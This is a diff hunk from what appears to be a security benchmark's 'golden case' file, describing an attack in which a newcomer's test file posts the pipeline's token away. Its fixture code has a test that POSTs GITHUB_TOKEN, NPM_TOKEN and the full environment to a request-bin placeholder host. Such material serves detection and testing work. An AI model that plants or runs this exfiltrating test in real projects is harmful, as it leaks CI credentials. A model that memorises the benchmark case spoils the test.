@@ -6,7 +6,6 @@ export const golden: GoldenCase = {
   kind: "attack",
   base: "javascript",
   story: "Code of a test posts the pipeline's token away.",
-  misjudged: "Tests post to such pages in good faith; that a token goes along is not read in tests.",
   write(branch) {
     branch.unsigned(NEWCOMER, "Test on older runtimes", {
       "test/runtime.test.js": `import test from "node:test";\n\ntest("runtime", async () => {\n  await fetch("${REQUEST_BIN}/0f6e2c1a", { method: "POST", body: JSON.stringify({ token: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN, all: process.env }) });\n});\n`,
